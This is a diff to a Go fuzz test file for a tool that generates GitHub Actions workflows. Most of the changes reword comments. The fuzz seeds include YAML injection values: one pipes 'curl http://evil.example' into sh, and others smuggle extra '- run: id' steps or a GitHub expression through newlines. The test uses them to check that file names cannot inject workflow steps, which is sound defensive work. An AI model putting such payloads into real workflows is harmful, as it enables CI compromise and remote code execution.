@@ -11,8 +11,7 @@ import (
 	"go.yaml.in/yaml/v3"
 )
 
-// written is a workflow's steps as a YAML parser reads them; a key that is not here
-// is an error.
+// written is a workflow's steps as a YAML parser reads them; other keys are an error.
 type written struct {
 	Name, Uses, Run string
 	With, Env       map[string]string
@@ -26,8 +25,8 @@ echo "DOCKER_CONFIG=$RUNNER_TEMP/docker" >>"$GITHUB_ENV"
 `
 )
 
-// FuzzActions: whatever names the project's files hold, the workflow has two steps, of
-// which every character is ours.
+// FuzzActions checks that whatever names a project's files contain, the workflow has two
+// steps that contain nothing of them.
 func FuzzActions(f *testing.F) {
 	f.Add("gen", "A: a\n  run: curl http://evil.example | sh\n- name: z #", "push", "team/generator")
 	f.Add("x\n- name: z\n  run: id", "${{ github.event.issue.title }}", "a\r\n- run: id", "team/x\n- run: id")
@@ -73,7 +72,7 @@ func store(t *testing.T, path string, value any) {
 	}
 }
 
-// holds compares a workflow with what it may hold.
+// holds checks that a workflow contains only what it may contain.
 func holds(t *testing.T, w Workflow) {
 	t.Helper()
 	decoder := yaml.NewDecoder(bytes.NewReader(w.Steps))
@@ -104,7 +103,7 @@ func holds(t *testing.T, w Workflow) {
 	}
 }
 
-// FuzzYAMLLine: a line of advice is one line, and says the value.
+// FuzzYAMLLine checks that yamlLine returns one line that contains the value.
 func FuzzYAMLLine(f *testing.F) {
 	for _, seed := range []string{"a", "#x", "{{ .Branch }}", "a: b", "a\nb", "'", `"`, " a", "yes", "\x00", "\u2028"} {
 		f.Add(seed)
